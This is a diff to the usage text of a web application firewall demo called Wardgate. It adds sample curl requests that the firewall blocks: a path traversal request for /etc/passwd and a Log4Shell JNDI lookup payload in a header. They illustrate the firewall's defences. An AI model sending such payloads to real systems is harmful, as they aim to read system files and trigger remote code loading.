@@ -249,6 +249,8 @@ Wardgate demo
 Try:
   curl -i {base}/echo                          # allowed: the upstream echoes what it received
   curl -i -X TRACE {base}/echo                 # blocked: 405, method not allowed
+  curl -i "{base}/echo?file=../../etc/passwd"  # blocked: 403, WAF (path traversal)
+  curl -i -H 'X-Api-Version: ${{jndi:ldap://x/a}}' {base}/echo   # blocked: 403, Log4Shell
   curl -i "{base}/echo?q=$(printf 'x%.0s' $(seq 9000))"   # blocked: 414, URL too long
   curl -s http://{args.admin}/stats/prometheus | grep wardgate_requests
 Stop with Ctrl-C.
